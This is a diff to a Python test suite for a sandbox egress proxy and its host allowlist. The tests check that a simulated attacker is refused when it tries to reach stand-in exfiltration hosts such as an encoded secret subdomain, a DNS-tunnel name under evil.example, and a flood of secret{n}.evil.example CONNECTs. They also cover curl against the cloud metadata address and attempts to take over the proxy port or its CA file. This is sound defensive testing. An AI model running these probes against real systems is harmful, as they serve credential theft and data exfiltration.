@@ -60,7 +60,7 @@ NOT_LISTED = {
     "example.org": "example.org:443",
     f"evil-{SITE_HOST}": f"evil-{SITE_HOST}:443",
     f"{SITE_HOST}.evil.example": f"{SITE_HOST}.evil.example:443",
-    f"c2VjcmV0.{SITE_HOST}": f"c2VjcmV0.{SITE_HOST}:443",
+    f"c2vjcmv0.{SITE_HOST}": f"c2VjcmV0.{SITE_HOST}:443",
     "73656372657473656372657473656372.tunnel.evil.example": "73656372657473656372657473656372.tunnel.evil.example:53",
     SITES[SITE_HOST]: f"{SITES[SITE_HOST]}:443",
     "1.1.1.1": "1.1.1.1:443",
@@ -175,7 +175,7 @@ for name, host in (("another", "{OTHER_SITE_HOST}"), ("below", "a.{SITE_HOST}"),
     assert [line.split()[:2] for line in told.lines[:-1]] == [
         ["another", "refused"], ["below", "refused"], ["none", "refused"], ["plain", "refused"],
     ], told.text  # fmt: skip
-    assert told.text.lower().count("unrecognized") == 3
+    assert told.text.count("UNRECOGNIZED_NAME") == 3
     assert SITE_HOST in refused_in_books(attacker)
 
 
@@ -198,9 +198,9 @@ def test_the_listed_host_itself_is_reached(attacker: Attacker) -> None:
         f"curl -sS https://{OTHER_SITE_HOST}/",
         f"curl -sSk https://{SITES[OTHER_SITE_HOST]}/",
         "curl -sSk https://169.254.169.254/latest/meta-data/",
-        "curl -sSp http://127.0.0.1:18790/health",
+        "curl -sSp --noproxy '' http://127.0.0.1:18790/health",
         f"timeout 20 git clone -q https://{OTHER_SITE_HOST}/repo.git",
-        f"pip download -q --retries 0 -d d -i https://{OTHER_SITE_HOST}/simple picoclaw-sample",
+        f"pip download --retries 1 -d d -i https://{OTHER_SITE_HOST}/simple picoclaw-sample",
         f"python3 -c 'import urllib.request as u; u.urlopen(\"https://{OTHER_SITE_HOST}/\")'",
     ],
 )
@@ -229,7 +229,8 @@ def test_the_port_and_the_socket_cannot_be_taken(attacker: Attacker) -> None:
     program = """
 def take(family, address):
     s = socket.socket(family)
-    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): s.setsockopt(socket.SOL_SOCKET, option, 1)
+    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
+        if family != socket.AF_UNIX: s.setsockopt(socket.SOL_SOCKET, option, 1)
     s.bind(address); s.listen()
 attempt("port", take, socket.AF_INET, ("127.0.0.1", 3128))
 attempt("any", take, socket.AF_INET, ("0.0.0.0", 3128))
@@ -246,16 +247,18 @@ attempt("roots", open, "/run/sandbox/ca.pem", "a")
 def test_a_flood_of_refusals(attacker: Attacker) -> None:
     """Three hundred at once, then one more: counted, bounded, and the chat goes on (asserted after every case)."""
     program = """
-import threading
+import collections, threading
+answers = collections.Counter()
 def one(n):
-    try: connect_to(f"secret{n}.evil.example:443")
-    except OSError as error: sys.stdout.write(f"it refused HTTP/1.1 503 {error}\\n")
+    try: answers[said_to(f"CONNECT secret{n}.evil.example:443 HTTP/1.1\\r\\n\\r\\n".encode())[9:12]] += 1
+    except OSError as error: answers[str(error)] += 1
 threads = [threading.Thread(target=one, args=(n,)) for n in range(300)]
 for start in range(0, 300, 30):
     for t in threads[start:start + 30]: t.start()
     for t in threads[start:start + 30]: t.join()
+print(dict(answers))
 """
-    all_refused(probe(attacker, program), 300, "403 ", "503 ")
+    assert probe(attacker, program).lines == ["{'403': 300}", "[exit code 0]"]
 
 
 @any_host
